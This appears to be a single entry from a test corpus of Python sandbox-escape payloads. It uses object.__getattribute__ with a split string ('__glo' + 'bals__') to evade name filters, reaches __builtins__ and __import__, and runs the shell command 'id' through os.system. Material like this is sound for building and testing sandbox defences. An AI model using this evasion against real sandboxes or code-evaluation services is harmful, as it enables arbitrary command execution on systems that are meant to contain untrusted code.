# corpus: object.__getattribute__ used to bypass attribute guards and read __globals__ / __builtins__
def f():
    pass

ga = object.__getattribute__
glb = ga(f, "__glo" + "bals__")
b = glb["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else ga(b, "__import__")
imp("os").system("id")
